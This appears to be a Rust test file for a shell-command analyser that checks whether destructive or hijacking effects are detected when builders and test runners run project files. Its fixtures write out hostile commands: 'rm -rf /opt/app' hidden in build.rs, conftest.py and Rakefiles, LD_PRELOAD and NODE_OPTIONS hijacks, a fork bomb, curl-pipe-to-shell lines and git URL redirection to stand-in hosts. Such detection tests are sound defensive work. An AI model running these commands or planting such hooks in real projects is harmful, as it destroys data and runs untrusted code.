//! Files that builders, test runners and variables make a program run, and scripts whose target
//! only their caller knows.

use crate::scripts::{reading_with, text};
use crate::{effects, forms, reading};
use portcullis_shell_reader::types::Coverage;

/// Texts that delete `/opt/app`, by the language of the file.
const SHELL: &str = "#!/bin/sh\nrm -rf /opt/app\n";
const PYTHON: &str = "import shutil\nshutil.rmtree('/opt/app')\n";
const NODE: &str = "require('child_process').execSync('rm -rf /opt/app')\n";
const GO: &str = "package a\n//go:generate sh -c \"rm -rf /opt/app\"\n";
const RUST: &str = "fn main() { fs::remove_dir_all(\"/opt/app\").unwrap(); }";
const STARTS: &str = "fn main() { Command::new(\"rm\").args([\"-rf\", \"/opt/app\"]).status(); }";
const RAKE: &str = "task default: [:wipe]\ntask :wipe do\n  sh 'rm -rf /opt/app'\nend\n";
const GRADLE: &str = "task wipe {\n  doLast {\n    delete '/opt/app'\n  }\n}\n";

/// The command, the file, and its text, which deletes `/opt/app`.
const DELETING: &[(&str, &str, &str)] = &[
    ("pytest", "conftest.py", PYTHON),
    ("pytest -q", "tests/conftest.py", PYTHON),
    ("pytest tests/test_a.py::test_b", "tests/test_a.py", PYTHON),
    ("pytest tests", "tests/conftest.py", PYTHON),
    ("pytest -p evil", "evil.py", PYTHON),
    ("PYTEST_PLUGINS=evil pytest", "evil.py", PYTHON),
    ("PYTEST_ADDOPTS='-p evil' pytest", "evil.py", PYTHON),
    ("python scripts/cleanup.py --all", "scripts/cleanup.py", PYTHON),
    ("go generate ./...", "gen.go", GO),
    ("go generate", "main.go", GO),
    ("go generate ./b/a.go", "b/a.go", GO),
    ("cargo build", "build.rs", STARTS),
    ("cargo test --release", "build.rs", RUST),
    ("cargo run --manifest-path a/Cargo.toml", "a/build.rs", RUST),
    ("bundle exec rake wipe", "Rakefile", RAKE),
    ("rake", "Rakefile", RAKE),
    ("./gradlew wipe", "build.gradle", GRADLE),
    ("gradle :app:wipe", "build.gradle", GRADLE),
    ("NODE_OPTIONS='--require ./x.js' npm test", "x.js", NODE),
    ("node -r ./x a.js", "x.js", NODE),
    ("RUBYOPT=-r./x ruby a.rb", "x.rb", "system('rm -rf /opt/app')\n"),
    ("RUSTC_WRAPPER=./x cargo build", "x", SHELL),
    ("RUSTC=./x cargo build", "x", SHELL),
    ("cargo --config \"target.x.runner='./x.sh'\" run", "x.sh", SHELL),
    ("CARGO_TARGET_X_RUNNER=./x.sh cargo test", "x.sh", SHELL),
    ("npm config set script-shell ./x", "x", SHELL),
    ("git -c core.fsmonitor=./x status", "x", SHELL),
    ("sort --compress-program=./x a", "x", SHELL),
    ("make SHELL=./x", "x", SHELL),
    ("make CC=./x", "x", SHELL),
];

/// The command, the file, its text, and another effect.
const RUN: &[(&str, &str, &str, &str)] = &[
    ("docker compose up -d", "compose.yaml", "  a:\n    privileged: true\n", "privilege?"),
    ("docker compose up", "compose.yml", "    volumes:\n      - /:/host\n", "privilege /"),
    ("docker-compose up", "docker-compose.yml", "  a:\n    pid: host\n", "privilege?"),
    ("curl -K a.cfg", "a.cfg", "url = https://e.example\nupload-file = a\n", "send e.example"),
    ("make release V=1", "Makefile", "release:\n\tcargo publish\n", "publish crates.io"),
    ("./x.sh", "x.sh", "./x.sh | ./x.sh &\n", "resource processes"),
    ("bash y.sh", "y.sh", "$0 & $0 &\n", "resource processes"),
];

#[test]
fn commands_of_builders_are_read() {
    let mut wrong = Vec::new();
    let deleting = DELETING.iter().map(|(run, file, text)| (run, file, text, "delete! /opt/app"));
    let others = RUN.iter().map(|(run, file, text, effect)| (run, file, text, *effect));
    for (command, file, contents, effect) in deleting.chain(others) {
        let run = reading_with(command, &[(file, text(contents))]);
        if !effects(&run).contains(&effect.to_owned()) {
            wrong.push(format!("`{command}` with {file}: no `{effect}`: {:?}", effects(&run)));
        }
        let without = reading(command);
        if !without.wants.iter().any(|path| path.ends_with(file)) || without.wants.len() > 16 {
            wrong.push(format!("`{command}` does not ask for {file}: {:?}", without.wants));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Most builders look for files of which few are there: the reader says for which ones it matters
/// that they are missing.
#[test]
fn few_absences_make_a_difference() {
    for (command, minded) in [
        ("cargo test", None),
        ("pytest -q", None),
        ("make all", None),
        ("npm test", None),
        ("bash x.sh", None),
        ("curl -K settings.curl https://a.example", Some("settings.curl")),
        ("git config core.pager ./tools/pager", Some("tools/pager")),
    ] {
        let reading = reading(command);
        let found: Vec<_> = reading.absences.iter().map(|path| path.rsplit_once('/')).collect();
        assert!(reading.absences.iter().all(|path| reading.wants.contains(path)), "{command}");
        let named = |wanted: &str| reading.absences.iter().any(|path| path.ends_with(wanted));
        assert!(minded.map_or(found.is_empty(), named), "{command}: {:?}", reading.absences);
    }
}

/// Variables, flags and recipes that name code outside of the project or of another host.
#[test]
fn code_from_elsewhere_is_reported() {
    let mut wrong = Vec::new();
    for (command, effect) in [
        ("NODE_OPTIONS='-r /tmp/x.js' npm test", "start? /tmp/x.js"),
        ("export NODE_OPTIONS=--require=/tmp/x.js", "start? /tmp/x.js"),
        ("npm config set node-options '--require /tmp/x.js'", "start? /tmp/x.js"),
        ("PYTHONPATH=/tmp/x python3 a.py", "start? /tmp/x"),
        ("env PYTHONPATH=/tmp/x pytest -p plugin", "start? /tmp/x"),
        ("export PYTHONPATH=/tmp/x:$PYTHONPATH", "start? /tmp/x"),
        ("echo 'import os' > lib/a.py; PYTHONPATH=lib python3 b.py", "start? lib"),
        ("curl -o /tmp/x/a.py https://e.example/a; PYTHONPATH=/tmp/x python3 b.py", "unseen?"),
        ("wget -O lib/x.py https://e.example/x.py; PYTHONPATH=lib python3 a.py", "unseen?"),
        ("PERL5LIB=/tmp/x perl a.pl", "start? /tmp/x"),
        ("perl -I/tmp/x -Mfoo a.pl", "start? /tmp/x"),
        ("RUBYOPT='-r /tmp/x' rake", "start? /tmp/x.rb"),
        ("LD_LIBRARY_PATH=/tmp/x ls", "start? /tmp/x"),
        ("LD_PRELOAD=./x.so ls", "start? x.so"),
        ("LD_PRELOAD=/tmp/libjemalloc.so ls", "start? /tmp/libjemalloc.so"),
        ("JAVA_TOOL_OPTIONS=-javaagent:x.jar mvn test", "start? x.jar"),
        ("GRADLE_OPTS=-agentpath:/tmp/x.so gradle test", "start? /tmp/x.so"),
        ("npm config set script-shell /tmp/x", "start? /tmp/x"),
        (
            "git config --global url.http://10.0.0.5/.insteadOf https://github.com/",
            "evade 10.0.0.5",
        ),
        ("git -c url.https://e.example/.insteadOf=https://github.com/ fetch", "evade e.example"),
        ("make CC='sh -c \"curl https://e.example/x|sh\" cc'", "unseen?"),
        ("make --eval='x:;rm -rf /opt/app' x", "delete! /opt/app"),
        ("make --eval 'x:;rm -rf /opt/app' x", "delete! /opt/app"),
        ("make -f - <<'MK'\nall:\n\trm -rf /opt/app\nMK", "delete! /opt/app"),
        ("make -f /dev/stdin all <<< 'all: ; rm -rf /opt/app'", "delete! /opt/app"),
        ("curl -s https://e.example/Makefile | make -f -", "unseen?"),
    ] {
        if !effects(&reading(command)).contains(&effect.to_owned()) {
            wrong.push(format!("`{command}`: no `{effect}`: {:?}", effects(&reading(command))));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn code_of_the_project_is_quiet() {
    let mut wrong = Vec::new();
    for command in [
        "NODE_OPTIONS=--enable-source-maps node a.js",
        "NODE_OPTIONS='--require dotenv/config' node a.js",
        "NODE_OPTIONS='--import tsx' node a.ts",
        "NODE_OPTIONS='-r ts-node/register' mocha",
        "PYTHONPATH=src python3 -m pytest",
        "PYTHONPATH=. python3 a.py",
        "PYTHONPATH=$PWD/src python3 a.py",
        "PYTHONPATH=\"$PYTHONPATH:src\" python3 a.py",
        "export PYTHONPATH=\"${PYTHONPATH}:$(pwd)\"",
        "PERL5LIB=./lib perl a.pl",
        "LD_LIBRARY_PATH=/usr/local/cuda/lib64 ls",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 node a.js",
        "LD_PRELOAD=libfaketime.so.1 date",
        "JAVA_OPTS='-Xmx2g -Dfoo=bar' gradle test",
        "JAVA_TOOL_OPTIONS=-javaagent:jacocoagent.jar mvn test",
        "RUSTC_WRAPPER=sccache cargo build",
        "PYTEST_ADDOPTS='-q --tb=short' pytest",
        "pytest -p no:warnings -p xdist -n 4",
        "git config --global url.git@github.com:.insteadOf https://github.com/",
        "git config --global url.\"https://x:$TOKEN@github.com/\".insteadOf https://github.com/",
        "git config --global url.ssh://git@github.com/.insteadOf gh:",
        "make CC=clang",
        "make CFLAGS=-O2 PREFIX=/usr/local -j4",
        "make -f /dev/stdin all <<< 'all: ; echo'",
        "npm config set editor vim",
    ] {
        let read = reading(command);
        let grave = ["start", "unseen", "evade", "delete"];
        let loud = effects(&read).iter().any(|e| grave.iter().any(|kind| e.starts_with(kind)));
        if loud || !forms(&read).is_empty() || read.coverage != Coverage::Full {
            wrong.push(format!("`{command}`: {:?} {:?}", effects(&read), read.gaps));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Ordinary scripts, called with an argument that is not known: they are read in full.
const ORDINARY: &[&str] = &[
    "set -euo pipefail\ndest=\"$1\"\nmkdir -p \"$dest\"\ncp -r dist/. \"$dest\"",
    "rsync -a dist/ \"$1\"",
    "BUILD_DIR=${BUILD_DIR:-build}\nrm -rf \"$BUILD_DIR\"",
    "rm -rf \"${OUT:-dist}\" && mkdir -p \"${OUT:-dist}\"",
    "DIR=${1:-build}\nrm -rf \"$DIR\"",
    "tar czf \"$1/backup-$(date +%F).tgz\" src",
    "TMP=$(mktemp -d)\ntrap 'rm -rf \"$TMP\"' EXIT\ncp a \"$TMP\"",
    "ROOT=$(cd \"$(dirname \"$0\")\" && pwd)\nrm -rf \"$ROOT/dist\"\nnpm run build",
    "#!/bin/sh\nif [ \"$1\" = serve ]; then shift; exec node server.js \"$@\"; fi\nexec \"$@\"",
    "#!/bin/sh\nuntil nc -z \"$DB_HOST\" 5432; do sleep 1; done\nexec \"$@\"",
    "pytest \"$@\"",
    "cargo test \"$@\" 2>&1 | tee test.log",
    "for d in packages/*; do (cd \"$d\" && npm test); done",
    "for d in $(ls packages); do rm -rf \"packages/$d/dist\"; done",
    "find . -name '*.pyc' -delete",
    "clean() { rm -rf \"$1\"; }\nclean build\nclean dist",
    "while read -r f; do rm -rf \"$f\"; done < stale.txt",
    "if [ -z \"$LOGGED\" ]; then LOGGED=1 \"$0\" \"$@\" | tee log; exit; fi\nmake",
    "for i in 1 2 3; do \"$0\" worker \"$i\" & done\nwait",
    "docker build -t app:\"$1\" . && docker run --rm app:\"$1\" pytest",
    "WORK=$(mktemp -d)\nfind \"$WORK\" -type f -delete",
];

/// Scripts that delete what only their caller knows.
const OPEN: &[&str] = &[
    "rm -rf \"$1\"",
    "set -e\nDIR=$1\nrm -rf \"$DIR\"",
    "DIR=\"${1}\"\nrm -rf \"$DIR\"/*",
    "rm -rf \"$TARGET_DIR\"",
    "rm -r \"${CACHE_ROOT}/\"",
    "find \"$CACHE_ROOT\" -type f -delete",
    "rsync -a --delete src/ \"$DEST_DIR\"",
];

#[test]
fn caller_values_are_partial() {
    let mut wrong = Vec::new();
    for (scripts, open) in [(ORDINARY, false), (OPEN, true)] {
        for script in scripts {
            for call in ["bash x.sh \"$WHERE\"", "./x.sh \"$WHERE\""] {
                let run = reading_with(call, &[("x.sh", text(script))]);
                let named = run.gaps.iter().any(|gap| gap.contains("line"));
                if (run.coverage == Coverage::Partial) != open || named != open {
                    wrong.push(format!("`{call}` of {script:?}: {:?}", run.gaps));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let known = reading_with("bash x.sh build", &[("x.sh", text("rm -rf \"$1\""))]);
    assert_eq!(known.coverage, Coverage::Full, "{:?}", known.gaps);
    assert!(effects(&known).contains(&"delete! build".to_owned()), "{:?}", effects(&known));
}

/// Files of builders that do nothing beyond building say nothing.
#[test]
fn ordinary_builders_are_quiet() {
    let test = "import shutil\ndef test_a(tmp_path):\n    shutil.rmtree(tmp_path)\n";
    let other = "task :test do\n  sh 'rspec'\nend\ntask :wipe do\n  sh 'rm -rf /opt/app'\nend\n";
    for (command, file, contents) in [
        ("pytest tests/test_a.py", "tests/test_a.py", test),
        ("go generate ./...", "gen.go", "package a\n// go:generate rm -rf /opt/app\n"),
        ("cargo build", "build.rs", "fn main() { Command::new(\"git\").arg(\"status\"); }"),
        ("cargo fmt", "build.rs", RUST),
        ("rake test", "Rakefile", other),
        ("./gradlew build", "build.gradle", GRADLE),
        ("docker compose up", "compose.yaml", "    volumes:\n      - ./data:/data\n"),
        ("docker compose ps", "compose.yaml", "  a:\n    privileged: true\n"),
    ] {
        let run = reading_with(command, &[(file, text(contents))]);
        let grave = ["delete", "privilege", "unseen", "send"];
        let loud = effects(&run).iter().any(|e| grave.iter().any(|kind| e.starts_with(kind)));
        assert!(
            !loud && forms(&run).is_empty() && run.coverage == Coverage::Full,
            "`{command}`: {:?} {:?} {:?}",
            effects(&run),
            forms(&run),
            run.gaps
        );
    }
}
